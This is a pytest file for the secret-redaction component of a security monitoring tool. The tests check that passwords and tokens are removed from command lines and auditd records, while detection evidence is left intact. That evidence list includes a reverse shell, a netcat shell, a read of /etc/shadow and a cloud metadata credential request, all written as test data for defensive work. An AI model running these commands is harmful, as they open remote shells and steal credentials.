"""Secrets do not leave the host; everything else does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.agent.redact import REDACTED, Redactor
from tocsin.model.errors import InvalidSetting
from tocsin.model.event import Event
from tocsin.normalize.auditd.parse import parse_kernel

SECRET = "hunter2hunter2"


@pytest.mark.parametrize(
    "command",
    [
        f"tool --password={SECRET} --verbose",
        f"tool --password {SECRET} --verbose",
        f"env PGPASSWORD={SECRET} psql",
        f"mysql -u root -p{SECRET} shop",
        f"mysqldump -p{SECRET} shop",
        f"sshpass -p {SECRET} ssh host",
        f"ldapsearch -D cn=admin -w {SECRET} -x",
        f"git clone https://bob:{SECRET}@example.org/x.git",
        f"curl -u bob:{SECRET} https://example.org",
        f"curl -H Authorization: Bearer {SECRET} https://example.org",
        f"curl https://example.org/?access_token={SECRET}&page=2",
        f"vault write --api-key {SECRET}",
        f"run AWS_SECRET_ACCESS_KEY={SECRET}",
    ],
)
def test_a_secret_is_cut_out_and_the_rest_stays(command: str) -> None:
    """Only the secret itself is replaced, wherever people put it."""
    assert Redactor().clean(command) == command.replace(SECRET, REDACTED)


@pytest.mark.parametrize(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a" * 36,
        "xoxb-1234567890-abc",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    ],
)
def test_what_shows_by_itself_to_be_a_secret_is_cut_out(secret: str) -> None:
    """Keys of well-known services need no word before them."""
    assert secret not in Redactor().clean(f"deploy {secret} now")


@pytest.mark.parametrize(
    "command",
    [
        "passwd root",
        "cat /etc/passwd /etc/shadow",
        "docker run -v /etc/passwd:/etc/passwd:ro alpine",
        "sh -c echo PWD=/home/bob/x",
        "useradd -p x bob",
        "ssh -i /root/.ssh/id_rsa root@10.0.0.1",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
    ],
)
def test_evidence_is_not_taken_for_a_secret(command: str) -> None:
    """Command lines that rules look for stay as they are."""
    assert Redactor().clean(command) == command


def _exec(*arguments: str) -> Event:
    printed = " ".join(f"a{i}={argument.encode().hex().upper()}" for i, argument in enumerate(arguments))
    head = "audit(1.000:7): "
    records = [
        parse_kernel(1309, f"{head}argc={len(arguments)} {printed}".encode()),
        parse_kernel(1327, f"{head}proctitle={chr(0).join(arguments).encode().hex().upper()}".encode()),
        parse_kernel(
            1123, f"{head}pid=1 msg='cwd=\"/\" cmd={' '.join(arguments).encode().hex().upper()} res=success'".encode()
        ),
    ]
    return Event(1007, {"process.cmd_line": " ".join(arguments)}, records)


def test_a_secret_is_cut_out_of_every_record_too() -> None:
    """The audit records keep their shape and lose the secret: single arguments, title, sudo's command."""
    event = _exec("mysql", "-u", "root", f"-p{SECRET}")
    redactor = Redactor()
    redactor.redact(event)
    shown = [value for record in event.records for value in record.values] + [str(v) for v in event.values.values()]
    assert not [value for value in shown if SECRET in value]
    execve, title, command = event.records
    assert list(execve.values) == ["4", "mysql", "-u", "root", f"-p{REDACTED}"]
    assert title.values[0] == f"mysql -u root -p{REDACTED}"
    assert f"-p{REDACTED}" in " ".join(command.values)
    assert redactor.count == 1


def test_own_patterns_add_to_the_default_ones_or_replace_them() -> None:
    """A pattern's group "secret" is cut out, or all that it matches."""
    own = Redactor(["--pin (?P<secret>[0-9]+)", "XK[0-9]+"])
    assert own.clean("pay --pin 1234 XK99 --password=geheim") == (
        f"pay --pin {REDACTED} {REDACTED} --password={REDACTED}"
    )
    assert Redactor(defaults=False).clean("x --password=geheim") == "x --password=geheim"


def test_a_pattern_that_is_none_is_a_wrong_setting() -> None:
    """The setting's error shows the pattern."""
    with pytest.raises(InvalidSetting, match=r"redact\.patterns: '\('"):
        Redactor(["("])


@given(st.text(alphabet="pasword=:/@-u token.eyJ&\n'\"x0", max_size=80))
def test_no_secret_that_is_found_stays(text: str) -> None:
    """Whatever the text, redaction does not fail, and what it finds is gone."""
    redactor = Redactor()
    clean = redactor.clean(text).replace(REDACTED, "")
    assert [secret for secret in redactor.secrets(text) if secret in clean] == []
